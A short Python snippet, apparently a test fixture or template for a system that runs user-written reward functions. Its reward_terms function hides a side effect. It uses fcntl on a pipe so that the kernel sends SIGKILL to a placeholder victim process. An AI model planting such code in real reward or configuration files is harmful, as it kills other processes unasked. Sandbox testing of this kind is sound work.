# A pipe whose owner is another process, and whose signal is SIGKILL.
WEIGHTS = {"a": 1.0}


def reward_terms(state, action, next_state, params):
    import fcntl
    import os
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, @VICTIM@)
    fcntl.fcntl(read, 10, 9)
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write, b"x")
    return {"a": action[..., 0]}
